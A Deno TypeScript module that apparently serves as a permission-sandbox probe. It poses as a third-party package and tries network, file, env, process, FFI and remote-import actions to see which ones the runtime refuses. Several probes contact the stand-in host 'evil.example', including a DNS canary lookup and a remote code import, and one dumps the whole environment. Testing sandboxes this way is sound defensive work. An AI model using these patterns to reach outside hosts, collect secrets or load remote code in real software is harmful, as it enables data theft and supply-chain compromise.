/**
 * A package that tries whatever a process could be used for, in every way that the runtime has. Nothing of the program
 * imports it: probe_main.ts does, as if it had come with another package.
 */
import { spawn } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";
import { userInfo } from "node:os";
import { env } from "node:process";

const NOWHERE = "/no-such-folder/no-such-file";
const ELSEWHERE = "evil.example";

/** A way to do what needs a permission; "never": none of this program's permissions covers it. */
export interface Attempt {
  readonly permission: "net" | "read" | "write" | "env" | "run" | "sys" | "never";
  readonly act: () => unknown;
}

export const ATTEMPTS: Readonly<Record<string, Attempt>> = {
  "connect": { permission: "net", act: () => Deno.connect({ hostname: "127.0.0.1", port: 1 }) },
  "fetch": { permission: "net", act: () => fetch("http://127.0.0.1:65000/") },
  "connect by node": { permission: "net", act: () => eventOf(connect({ host: "127.0.0.1", port: 1 })) },
  "request by node": { permission: "net", act: () => eventOf(request("http://127.0.0.1:1/")) },
  "listen": { permission: "net", act: () => Deno.listen({ hostname: "127.0.0.1", port: 0 }).close() },
  "read": { permission: "read", act: () => Deno.statSync("/") },
  "read by node": { permission: "read", act: () => readFileSync(NOWHERE) },
  "list": { permission: "read", act: () => [...Deno.readDirSync("/")] },
  "write": { permission: "write", act: () => Deno.removeSync(NOWHERE) },
  "write by node": { permission: "write", act: () => writeFileSync(NOWHERE, "") },
  "a temporary file": { permission: "write", act: () => Deno.removeSync(Deno.makeTempFileSync()) },
  "env": { permission: "env", act: () => Deno.env.get("PATH") },
  "all of env": { permission: "env", act: () => Deno.env.toObject() },
  "env by node": { permission: "env", act: () => env["PATH"] },
  "env in a worker": { permission: "env", act: () => inWorker('Deno.env.get("PATH")') },
  "read in a worker": { permission: "read", act: () => inWorker('Deno.statSync("/")') },
  "run": { permission: "run", act: () => new Deno.Command("/no-such-program").outputSync() },
  "run by node": { permission: "run", act: () => eventOf(spawn("/bin/true", { env: {} })) },
  "kill": { permission: "run", act: () => Deno.kill(2 ** 22, "SIGCONT") },
  "sys": { permission: "sys", act: () => Deno.osRelease() },
  "connect elsewhere": { permission: "never", act: () => Deno.connect({ hostname: ELSEWHERE, port: 443 }) },
  "fetch elsewhere": { permission: "never", act: () => fetch(`https://${ELSEWHERE}/`) },
  "request elsewhere by node": { permission: "never", act: () => eventOf(request(`http://${ELSEWHERE}/`)) },
  "a socket of the web": { permission: "never", act: () => new WebSocket(`wss://${ELSEWHERE}/`).close() },
  "listen for all": { permission: "never", act: () => Deno.listen({ hostname: "0.0.0.0", port: 0 }).close() },
  "sys beyond": { permission: "never", act: () => Deno.hostname() },
  "sys beyond by node": { permission: "never", act: () => userInfo() },
  "a name that says something": { permission: "never", act: () => Deno.resolveDns(`canary.${ELSEWHERE}`, "A") },
  "ask for more": { permission: "never", act: () => asked("ffi") },
  "ffi": { permission: "never", act: () => Deno.dlopen("/no-such-library", {}) },
  "import from elsewhere": { permission: "never", act: () => import(`https://${ELSEWHERE}/x.ts`) },
};

function eventOf(emitter: { once(event: string, listener: (given: unknown) => void): unknown; end?(): unknown }) {
  const { promise, resolve, reject } = Promise.withResolvers<void>();
  emitter.once("error", reject);
  emitter.once("connect", () => resolve());
  emitter.once("response", () => resolve());
  emitter.once("exit", () => resolve());
  emitter.end?.();
  return promise;
}

/** A worker has what its parent has at that time. */
async function inWorker(code: string): Promise<void> {
  const script = `try { ${code}; postMessage(""); } catch (error) { postMessage(error.message); }`;
  const worker = new Worker(`data:application/javascript,${encodeURIComponent(script)}`, { type: "module" });
  const said = await new Promise<string>((resolve) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = (event) => (event.preventDefault(), resolve(event.message));
  });
  worker.terminate();
  if (said !== "") throw new Error(said);
}

function asked(name: "ffi" | "import"): void {
  if (Deno.permissions.requestSync({ name } as Deno.PermissionDescriptor).state !== "granted") {
    throw new Deno.errors.NotCapable(name);
  }
}

/** The attempts that the runtime refuses; the others come through, or fail for another reason. */
export async function refusedAttempts(): Promise<readonly string[]> {
  const refused: string[] = [];
  for (const [name, { act }] of Object.entries(ATTEMPTS)) if (await isRefused(act)) refused.push(name);
  return refused;
}

async function isRefused(act: () => unknown): Promise<boolean> {
  try {
    await act();
    return false;
  } catch (error) {
    return isRefusal(error);
  }
}

/** Whatever the error is wrapped in. */
function isRefusal(error: unknown): boolean {
  if (!(error instanceof Error)) return false;
  return error.name === "NotCapable" || /Requires \w+ access|getaddrinfo EPERM/.test(error.message) ||
    isRefusal(error.cause);
}
